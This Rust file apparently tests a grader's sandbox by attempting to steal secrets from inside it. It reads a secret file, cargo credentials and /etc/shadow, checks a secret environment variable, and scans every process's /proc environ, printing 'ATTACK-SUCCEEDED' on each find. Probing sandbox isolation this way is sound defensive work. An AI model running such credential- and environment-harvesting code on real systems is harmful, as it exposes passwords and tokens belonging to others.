//! attack: reads the grader's secrets while it runs: a private file (SECRET_FILE), cargo's
//! credentials (CARGO_CREDENTIALS), its own environment and every process's, and prints them

fn main() {
    for file in ["SECRET_FILE", "CARGO_CREDENTIALS", "/etc/shadow"] {
        if let Ok(text) = std::fs::read_to_string(file) {
            println!("ATTACK-SUCCEEDED: read {file}");
            print!("{text}");
        }
    }
    if let Ok(value) = std::env::var("SECRET_VARIABLE") {
        println!("ATTACK-SUCCEEDED: a variable of the grader's: {value}");
    }
    let pids = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    for pid in pids.filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok()) {
        let Ok(environ) = std::fs::read(format!("/proc/{pid}/environ")) else {
            continue;
        };
        let environ = String::from_utf8_lossy(&environ).replace('\0', " ");
        if environ.contains("SECRET_VARIABLE") {
            println!("ATTACK-SUCCEEDED: the environment of pid {pid}: {environ}");
        }
    }
}
